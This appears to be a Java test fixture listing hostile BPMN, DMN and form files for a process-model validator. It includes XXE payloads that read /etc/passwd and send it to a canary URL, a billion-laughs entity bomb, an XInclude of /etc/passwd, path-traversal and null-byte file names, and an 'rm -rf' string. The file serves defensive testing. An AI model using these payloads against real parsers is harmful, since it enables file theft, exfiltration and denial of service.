package org.redress.process.gate;

import static org.redress.process.gate.Hostile.aroundStep;
import static org.redress.process.gate.Hostile.definitions;
import static org.redress.process.gate.Hostile.file;
import static org.redress.process.gate.Hostile.processXml;
import static org.redress.process.gate.Hostile.step;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** Files that attack who reads them, files that are something else, and words of others. */
final class HostileXml {

    private static final String GOOD = processXml(aroundStep("<bpmn:task id='x'/>"));

    private HostileXml() {
    }

    static Stream<Hostile> all() {
        return Stream.of(entities(), encodings(), sizes(), others(), foreign(), broken()).flatMap(each -> each);
    }

    private static Stream<Hostile> entities() {
        return Stream.of(".bpmn", ".dmn").flatMap(kind -> {
            var good = kind.equals(".bpmn") ? GOOD : Hostile.decisionDefinitions("", Hostile.table("a", "-", "1"));
            return Stream.of(
                    doctype(kind, "that is empty", "<!DOCTYPE definitions>", good),
                    doctype(kind, "of elsewhere", "<!DOCTYPE definitions SYSTEM '" + Canary.url() + "'>", good),
                    doctype(kind, "that is public", "<!DOCTYPE definitions PUBLIC 'x' '" + Canary.url() + "'>", good),
                    doctype(kind, "with a file", "<!DOCTYPE d [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", named(good, "&e;")),
                    doctype(kind, "with an address", "<!DOCTYPE d [<!ENTITY e SYSTEM '" + Canary.url() + "'>]>", named(good, "&e;")),
                    doctype(kind, "with a parameter entity", "<!DOCTYPE d [<!ENTITY % e SYSTEM '" + Canary.url() + "'> %e;]>", good),
                    doctype(kind, "with a parameter entity in one", "<!DOCTYPE d [<!ENTITY % f SYSTEM 'file:///etc/passwd'><!ENTITY % e \"<!ENTITY s SYSTEM '"
                            + Canary.url() + "?%f;'>\"> %e;]>", good),
                    doctype(kind, "with words hidden", "<!DOCTYPE d [<!ENTITY e \"${''.class}\">]>", named(good, "&e;")),
                    doctype(kind, "with a default attribute", "<!DOCTYPE d [<!ATTLIST task camunda:class CDATA 'x'>]>", good),
                    doctype(kind, "with a billion laughs", bomb(), named(good, "&l9;")),
                    doctype(kind, "with a quadratic bomb", "<!DOCTYPE d [<!ENTITY e '" + "a".repeat(50_000) + "'>]>", named(good, "&e;".repeat(200))),
                    doctype(kind, "that comes back to itself", "<!DOCTYPE d [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>", named(good, "&a;")),
                    doctype(kind, "with a notation", "<!DOCTYPE d [<!NOTATION n SYSTEM '" + Canary.url() + "'><!ENTITY e SYSTEM 'x' NDATA n>]>", good));
        });
    }

    private static String bomb() {
        return "<!DOCTYPE d [<!ENTITY l0 'ha'>" + IntStream.rangeClosed(1, 9)
                .mapToObj(i -> "<!ENTITY l" + i + " '" + ("&l" + (i - 1) + ";").repeat(10) + "'>").collect(Collectors.joining()) + "]>";
    }

    private static Hostile doctype(String kind, String what, String doctype, String good) {
        return file("DOCTYPE " + what + " in a " + kind, "probe" + kind, doctype + good, "");
    }

    /** In a text that both kinds have or take. */
    private static String named(String good, String entity) {
        return good.contains("<text>1</text>") ? good.replace("<text>1</text>", "<text>" + entity + "</text>")
                : good.replace("<bpmn:task id='x'/>", "<bpmn:task id='x'><bpmn:documentation>" + entity + "</bpmn:documentation></bpmn:task>");
    }

    private static Stream<Hostile> encodings() {
        return Stream.of("UTF-16", "UTF-16LE", "ISO-8859-1", "windows-1252", "US-ASCII", "IBM037").map(encoding -> new Hostile("file in " + encoding, "probe.bpmn",
                ("<?xml version='1.0' encoding='" + encoding + "'?>" + GOOD).getBytes(Charset.forName(encoding)), ""));
    }

    private static Stream<Hostile> sizes() {
        return Stream.of(
                file("50 MB of spaces", "probe.bpmn", " ".repeat(50 << 20), "size"),
                file("50 MB in a form", "probe.form", " ".repeat(50 << 20), "size"),
                file("5 MB of a process", "probe.bpmn", processXml("<!--" + "x".repeat(5 << 20) + "-->" + aroundStep("<bpmn:task id='x'/>")), "size"),
                file("5 MB of a decision", "probe.dmn", Hostile.decisionDefinitions("", Hostile.table("a", "-", "1") + " ".repeat(5 << 20)), "size"),
                step("a hundred sub-processes in one another", "<bpmn:subProcess id='x'>" + nested(100) + "</bpmn:subProcess>", "depth"),
                file("a hundred thousand levels", "probe.bpmn", "<a>".repeat(100_000) + "</a>".repeat(100_000), "depth"),
                step("a hundred thousand elements", "<bpmn:task id='x'>" + "<bpmn:documentation/>".repeat(100_000) + "</bpmn:task>", "elements"),
                step("two hundred attributes", "<bpmn:task id='x' " + IntStream.range(0, 200).mapToObj(i -> "a" + i + "=''").collect(Collectors.joining(" "))
                        + "/>", "attributes"),
                step("a text of a book", "<bpmn:task id='x'><bpmn:documentation>" + "word ".repeat(100_000) + "</bpmn:documentation></bpmn:task>", "longText"),
                step("a value of a book", "<bpmn:task id='x' default='" + "x".repeat(100_000) + "'/>", "longAttribute"),
                step("a name that fits no column", "<bpmn:task id='x' name='" + "n".repeat(300) + "'/>", "longName"),
                step("an id that fits no column", "<bpmn:task id='x'/><bpmn:task id='" + "i".repeat(300) + "'/>", "longId"));
    }

    private static String nested(int levels) {
        return IntStream.range(0, levels).mapToObj(i -> "<bpmn:subProcess id='s" + i + "'>").collect(Collectors.joining()) + "</bpmn:subProcess>".repeat(levels);
    }

    private static Stream<Hostile> others() {
        return Stream.of(
                vendor("Camunda 8", "<bpmn:serviceTask id='x'><bpmn:extensionElements><z:taskDefinition xmlns:z='http://camunda.org/schema/zeebe/1.0' type='t'/>"
                        + "</bpmn:extensionElements></bpmn:serviceTask>"),
                vendor("Activiti", "<bpmn:serviceTask id='x' xmlns:a='http://activiti.org/bpmn' a:class='java.lang.Runtime'/>"),
                vendor("Activiti, called camunda", "<bpmn:serviceTask id='x' xmlns:camunda='http://activiti.org/bpmn' camunda:delegateExpression='${noteStep}'/>"),
                vendor("Flowable", "<bpmn:serviceTask id='x' xmlns:f='http://flowable.org/bpmn' f:type='http'/>"),
                vendor("jBPM", "<bpmn:task id='x' xmlns:d='http://www.jboss.org/drools' d:taskName='Log'/>"),
                vendor("Signavio", "<bpmn:task id='x'><bpmn:extensionElements><s:signavioMetaData xmlns:s='http://www.signavio.com' metaKey='k'/>"
                        + "</bpmn:extensionElements></bpmn:task>"),
                file("file for Camunda 8 without a word of it", "probe.bpmn", GOOD.replace("id=\"definitions\"",
                        "id=\"definitions\" modeler:executionPlatform=\"Camunda Cloud\""), "vendor"),
                file("form for Camunda 8", "probe.form", Hostile.json("{'type':'default','id':'probe','components':[],'executionPlatform':'Camunda Cloud'}"), "vendor"),
                file("XHTML", "probe.bpmn", "<html xmlns='http://www.w3.org/1999/xhtml'><body/></html>", "notBpmn"),
                file("SVG with a script", "probe.bpmn", "<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>", "notBpmn"),
                file("XSLT", "probe.bpmn", "<s:stylesheet version='1.0' xmlns:s='http://www.w3.org/1999/XSL/Transform'/>", "notBpmn"),
                file("definitions of nobody", "probe.bpmn", "<definitions id='probe'/>", "notBpmn"),
                file("definitions of BPMN 1", "probe.bpmn", "<definitions xmlns='http://schema.omg.org/spec/BPMN/2.0' id='probe'/>", "notBpmn"),
                file("decision called process", "probe.bpmn", Hostile.decisionDefinitions("", Hostile.table("a", "-", "1")), "notBpmn"),
                file("process called decision", "probe.dmn", GOOD, "notDmn"),
                file("decision of nobody", "probe.dmn", Hostile.decisionDefinitions("", Hostile.table("a", "-", "1")).replace("https://www.omg.org/spec/DMN/20191111/MODEL/",
                        "urn:nobody"), "notDmn"),
                file("process called form", "probe.form", GOOD, "json"),
                file("case model", "probe.cmmn", "<definitions xmlns='http://www.omg.org/spec/CMMN/20151109/MODEL'/>", "kind"),
                file("script as a file", "evil.groovy", "1", "kind"),
                file("old ending", "probe.bpmn20.xml", GOOD, "kind"),
                file("way out of the folder", "../../probe.bpmn", GOOD, "fileName"),
                file("way from the root", "/etc/probe.bpmn", GOOD, "fileName"),
                file("folder in a folder", "a/b/probe.bpmn", GOOD, "fileName"),
                file("name with a line break", "pro\nbe.bpmn", GOOD, "fileName"),
                file("name with a zero", "probe\u0000.bpmn", GOOD, "fileName"),
                file("name that looks Latin", "prоbe.bpmn", GOOD, "fileName"));
    }

    private static Hostile vendor(String who, String element) {
        return step("made for " + who, element, "vendor");
    }

    private static Stream<Hostile> foreign() {
        return Stream.of(
                step("element of a foreign namespace", "<evil:thing xmlns:evil='urn:evil' id='x'/>", "element"),
                step("attribute of a foreign namespace", "<bpmn:task id='x' xmlns:evil='urn:evil' evil:class='y'/>", "attribute"),
                step("task of a foreign namespace", "<evil:serviceTask xmlns:evil='urn:evil' id='x' camunda:class='y'/>", "element"),
                step("task of the namespace of drawings", "<bpmndi:serviceTask id='x' camunda:class='y'/>", "element"),
                step("bpmn attribute with a prefix", "<bpmn:task id='x' bpmn:name='y'/>", "attribute"),
                step("unknown plain attribute", "<bpmn:serviceTask id='x' class='y' camunda:delegateExpression='${noteStep}'/>", "noClass"),
                step("unknown plain attribute of a task", "<bpmn:task id='x' onclick='alert(1)'/>", "attribute"),
                step("implementation", "<bpmn:serviceTask id='x' implementation='" + Hostile.CANARY + "' camunda:delegateExpression='${noteStep}'/>", "attribute"),
                step("operation of a web service", "<bpmn:sendTask id='x' operationRef='o' camunda:delegateExpression='${noteStep}'/>", "attribute"),
                step("camunda attribute nobody listed", "<bpmn:task id='x' camunda:parameterPattern='y'/>", "attribute"),
                step("shape with a script", "<bpmn:task id='x'/></bpmn:process><bpmndi:BPMNDiagram id='dia'><bpmndi:BPMNPlane id='p' bpmnElement='probe'>"
                        + "<evil:script xmlns:evil='urn:evil'>1</evil:script></bpmndi:BPMNPlane></bpmndi:BPMNDiagram><bpmn:process id='probe'>", ""),
                file("process in the drawing", "probe.bpmn", definitions("<bpmn:process id='probe' isExecutable='true'/><bpmndi:BPMNDiagram id='dia'>"
                        + "<bpmn:scriptTask id='s'/></bpmndi:BPMNDiagram>"), "noScript"),
                file("process in a process", "probe.bpmn", processXml("<bpmn:process id='inner' isExecutable='true'/>"), "element"),
                file("definitions in a process", "probe.bpmn", processXml("<bpmn:definitions id='inner'/>"), "element"),
                file("schema of elsewhere", "probe.bpmn", GOOD.replace("id=\"definitions\"",
                        "id=\"definitions\" xsi:schemaLocation=\"urn:evil " + Canary.url() + "\""), "attribute"),
                file("schema of elsewhere beside the right one", "probe.bpmn", GOOD.replace("id=\"definitions\"",
                        "id=\"definitions\" xsi:schemaLocation=\"http://www.omg.org/spec/BPMN/20100524/MODEL " + Canary.url() + "\""), "attribute"),
                file("schema without a namespace", "probe.bpmn", GOOD.replace("id=\"definitions\"",
                        "id=\"definitions\" xsi:noNamespaceSchemaLocation=\"" + Canary.url() + "\""), "attribute"),
                file("base of elsewhere", "probe.bpmn", GOOD.replace("id=\"definitions\"", "id=\"definitions\" xml:base=\"" + Canary.url() + "\""), "attribute"),
                file("inclusion", "probe.bpmn", processXml("<i:include xmlns:i='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' parse='text'/>"), "element"),
                file("language of the whole file", "probe.bpmn", GOOD.replace("id=\"definitions\"", "id=\"definitions\" expressionLanguage=\"javascript\""), "language"),
                file("types of the whole file", "probe.bpmn", GOOD.replace("id=\"definitions\"", "id=\"definitions\" typeLanguage=\"http://www.java.com/javaTypes\""),
                        "language"),
                step("text where none belongs", "<bpmn:task id='x'>rm -rf</bpmn:task>", "text"));
    }

    private static Stream<Hostile> broken() {
        return Stream.of(
                file("nothing", "probe.bpmn", "", "xml"), file("no XML", "probe.bpmn", "not xml", "xml"),
                file("half a file", "probe.bpmn", GOOD.substring(0, GOOD.length() / 2), "xml"),
                file("two roots", "probe.bpmn", GOOD + GOOD, "xml"), file("an attribute twice", "probe.bpmn", GOOD.replace("id='x'", "id='x' id='y'"), "xml"),
                file("an entity nobody declared", "probe.bpmn", GOOD.replace("<bpmn:task id='x'/>", "<bpmn:task id='x' name='&evil;'/>"), ""),
                file("a prefix nobody declared", "probe.bpmn", GOOD.replace("<bpmn:task id='x'/>", "<evil:task id='x'/>"), "xml"),
                file("a zero character", "probe.bpmn", GOOD.replace("id='x'", "id='x&#0;'"), "xml"),
                new Hostile("no UTF-8", "probe.bpmn", new byte[] {'<', (byte) 0xC3, (byte) 0x28, '/', '>'}, "xml"),
                new Hostile("a zip", "probe.bpmn", "PK\u0003\u0004".getBytes(StandardCharsets.ISO_8859_1), "xml"),
                file("no decision", "probe.dmn", "{}", "xml"), file("no form", "probe.form", "<a/>", "json"));
    }
}
